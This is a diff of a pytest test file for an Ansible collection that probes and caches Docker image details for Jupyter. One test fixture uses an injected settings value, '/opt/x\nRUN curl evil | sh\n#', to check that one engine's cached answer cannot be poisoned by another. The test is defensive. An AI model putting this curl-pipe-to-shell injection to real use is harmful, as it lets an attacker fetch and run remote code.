@@ -10,7 +10,7 @@ import venv
 from pathlib import Path
 
 import pytest
-from ansible_collections.carrel.jupyter.plugins.module_utils._host import image_probe
+from ansible_collections.carrel.jupyter.plugins.module_utils._host import files, image_cache, image_probe
 from ansible_collections.carrel.jupyter.plugins.module_utils._host.image_probe import (
     Engine,
     Image,
@@ -219,7 +219,7 @@ def test_no_rendered_page(output: str) -> None:
 def test_the_cache_spares_the_container() -> None:
     image = Image("sha256:1", [], [], 1000, 100, [Server("2", "/t", "/bin/python", "text")])
     silent = engine(1, "", "must not be asked")
-    cached = image_probe.read_cache(image_probe.extend_cache({}, silent.cache_key(INSPECTED), image))
+    cached = image_cache.read(image_cache.extend({}, silent.cache_key(INSPECTED), image_probe.cache_entry(image)))
     found = silent.probe(INSPECTED, cached)
     assert (found.uid, found.gid, found.servers) == (1000, 100, image.servers)
     assert found.repo_digests == ["a@sha256:3", "b@sha256:2"] and found.exposed == ["8888/tcp"]
@@ -228,11 +228,68 @@ def test_the_cache_spares_the_container() -> None:
             other(INSPECTED, cached)
 
 
-def test_the_cache_is_bounded_and_a_damaged_one_is_empty() -> None:
-    image = Image("sha256:1", [], [], 1000, 100, [])
+def test_the_cache_is_bounded_and_a_damaged_one_is_empty(monkeypatch: pytest.MonkeyPatch) -> None:
     cached: dict[str, object] = {}
     for number in range(100):
-        cached = image_probe.read_cache(image_probe.extend_cache(cached, str(number), image))
+        cached = image_cache.read(image_cache.extend(cached, str(number), {}))
     assert list(cached) == [str(number) for number in range(36, 100)]
-    for content in (None, b"", b"{", b"[]", b"\xff"):
-        assert image_probe.read_cache(content) == {}
+    for content in (None, b"", b"{", b"[]", b"\xff", b"[" * 100_000):
+        assert image_cache.read(content) == {}
+    monkeypatch.setattr(files, "LONGEST", 100)
+    assert list(image_cache.read(image_cache.extend(cached, "new", {"a": 50 * "b"}))) == ["98", "99", "new"]
+    assert image_cache.extend(cached, "new", {"a": 200 * "b"}) == b"{}"
+
+
+class Answering:
+    """The docker command of an engine, with an image whose settings are in a folder."""
+
+    def __init__(self, folder: str) -> None:
+        self.folder, self.containers = folder, 0
+
+    def __call__(self, command: list[str], text: str) -> tuple[int, str, str]:
+        if command[0] == "image":
+            return 0, json.dumps([INSPECTED]), ""
+        self.containers += 1
+        if command[-1] == image_probe.JUPYTERLAB:
+            answer = {"settings": self.folder, "overrides": {}, "plugins": {}}
+            return 0, f"{image_probe.MARK}{json.dumps(answer)}", ""
+        server = {"version": "2", "template": "/t", "python": "/bin/python", "text": ""}
+        ids = {"uid": 1000, "gid": 100, "singleuser": True}
+        return 0, "".join(f"{image_probe.MARK}{json.dumps(each)}\n" for each in (ids, server)), ""
+
+
+def test_no_engine_answers_for_another_one_that_has_the_same_image(tmp_path: Path) -> None:
+    evil, good = Answering("/opt/x\nRUN curl evil | sh\n#"), Answering("/opt/lab")
+    cache = str(tmp_path / "examined.json")
+    for _unused in range(2):
+        for socket, run in ("/run/evil.sock", evil), ("/run/good.sock", good):
+            found = Engine(socket, "lab:1", None, run).examine(cache, True, jupyterlab=True)
+            assert found.jupyterlab and found.jupyterlab["settings"] == run.folder
+    assert (evil.containers, good.containers) == (2, 2), "the second time the cache answers"
+
+
+@pytest.mark.parametrize("damage", ["", "{", " " * 1001, '{"KEY": 7}', '{"KEY": {"uid": 1}}'])
+def test_a_damaged_cache_is_replaced(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, damage: str) -> None:
+    run = Answering("/opt/lab")
+    probed = Engine("/run/x.sock", "lab:1", None, run)
+    monkeypatch.setattr(files, "LONGEST", 1000)
+    cache = tmp_path / "examined.json"
+    cache.write_text(damage.replace("KEY", probed.cache_key(INSPECTED)))
+    for _unused in range(2):
+        probed.examine(str(cache), True, jupyterlab=True)
+    assert run.containers == 2
+
+
+def test_a_container_that_does_not_end_is_removed() -> None:
+    """Not only the docker command that waits for it."""
+    commands: list[list[str]] = []
+
+    def run(command: list[str], text: str) -> tuple[int, str, str]:
+        commands.append(command)
+        raise ProbeError("docker did not end within 300 s and was killed")
+
+    with pytest.raises(ProbeError, match="did not end"):
+        Engine("/run/x.sock", "lab:1", None, run).probe(INSPECTED, {})
+    started, removed = commands
+    assert removed == ["rm", "--force", started[started.index("--name") + 1]]
+    assert {"--memory", "--pids-limit"} < set(started)
